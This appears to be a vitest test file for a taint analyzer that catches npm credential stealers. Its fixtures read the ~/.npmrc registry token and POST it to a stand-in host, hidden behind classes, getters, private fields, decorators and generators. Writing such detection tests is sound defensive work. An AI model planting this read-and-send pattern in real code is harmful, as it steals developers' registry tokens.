// Classes (inheritance, fields, private names, decorators) and generators carry taint
// like any other code: the shapes a stealer uses to split reading from sending.
import { describe, expect, it } from "vitest";
import { analyze, flowSummary } from "./helpers.js";

const HEAD = "const fs = require('fs'); const os = require('os'); const https = require('https');\n";
const READ = "fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')";
const SEND = "https.request('https://t.example.invalid/x', { method: 'POST' })";

async function flowsOf(code: string, file = "index.js"): Promise<string[]> {
  const files: Record<string, string> = { [file]: HEAD + code };
  if (file !== "index.js") files["package.json"] = JSON.stringify({ name: "pkg", version: "1.0.0", main: file });
  return flowSummary(await analyze(files)).map((f) => f.replace(/ @\S+/, ""));
}

const SENT = ["registry-token -> http https://t.example.invalid/x (import)"];

describe("classes", () => {
  it.each([
    ["an inherited method", `class Base { send(d) { ${SEND}.end(d); } }\nclass R extends Base { constructor() { super(); this.k = ${READ}; } run() { this.send(this.k); } }\nnew R().run();`],
    ["super(...) storing the data in the parent", `class Base { constructor(d) { this.d = d; } send() { ${SEND}.end(this.d); } }\nclass R extends Base { constructor() { super(${READ}); } }\nnew R().send();`],
    ["super.method()", `class Base { send(d) { ${SEND}.end(d); } }\nclass R extends Base { send() { super.send(${READ}); } }\nnew R().send();`],
    ["an implicit constructor passing its arguments up", `class Base { constructor(d) { this.d = d; } send() { ${SEND}.end(this.d); } }\nclass R extends Base {}\nnew R(${READ}).send();`],
    ["an instance field", `class R { k = ${READ}; send() { ${SEND}.end(this.k); } }\nnew R().send();`],
    ["a private field", `class R { #k = ${READ}; send() { ${SEND}.end(this.#k); } }\nnew R().send();`],
    ["a getter read as a property", `class R { get k() { return ${READ}; } }\n${SEND}.end(new R().k);`],
    ["a getter over a private field", `class R { #raw; constructor() { this.#raw = ${READ}; } get k() { return this.#raw; } send() { ${SEND}.end(this.k); } }\nnew R().send();`],
    ["a static getter", `class R { static get k() { return ${READ}; } }\n${SEND}.end(R.k);`],
    ["an inherited getter", `class Base { get k() { return ${READ}; } }\nclass R extends Base {}\n${SEND}.end(new R().k);`],
    ["an object-literal getter", `const o = { get k() { return ${READ}; } };\n${SEND}.end(o.k);`],
    ["a getter beside its setter", `const o = { get k() { return ${READ}; }, set k(v) {} };\n${SEND}.end(o.k);`],
  ])("through %s", async (_name, code) => {
    expect(await flowsOf(code)).toEqual(SENT);
  });

  it("a getter runs only when read: one never read sends nothing at import", async () => {
    expect(await flowsOf(`class R { get k() { ${SEND}.end(${READ}); return 1; } }\nconst r = new R();`)).toEqual(SENT.map((f) => f.replace("(import)", "(call)")));
  });

  it("keeps private and public names apart", async () => {
    expect(await flowsOf(`class R { #k = ${READ}; k = 'public'; send() { ${SEND}.end(this.k); } }\nnew R().send();`)).toEqual([]);
  });

  it("runs a class decorator when the class is defined (import time)", async () => {
    const code = `function Track(target) { ${SEND}.end(${READ}); return target; }\n@Track\nexport class Service {}`;
    expect(await flowsOf(code, "index.mts")).toEqual(SENT);
  });

  it("runs member decorators with the prototype and the member name", async () => {
    const code = `function Log(proto, name) { ${SEND}.end(name + ${READ}); }\nexport class Service { @Log run() {} }`;
    expect(await flowsOf(code, "index.ts")).toEqual(SENT);
  });
});

describe("generators", () => {
  it.each([
    ["for...of over a generator", `function* g() { yield ${READ}; }\nfor (const x of g()) ${SEND}.end(x);`],
    ["spread of a generator", `function* g() { yield 'a'; yield ${READ}; }\n${SEND}.end([...g()].join());`],
    ["yield* delegation", `function* inner() { yield ${READ}; }\nfunction* g() { yield* inner(); }\nfor (const x of g()) ${SEND}.end(x);`],
    ["for await over an async generator", `async function* g() { yield fs.promises.readFile(os.homedir() + '/.npmrc'); }\n(async () => { for await (const x of g()) ${SEND}.end(x); })();`],
  ])("through %s", async (_name, code) => {
    expect(await flowsOf(code)).toEqual(SENT);
  });
});
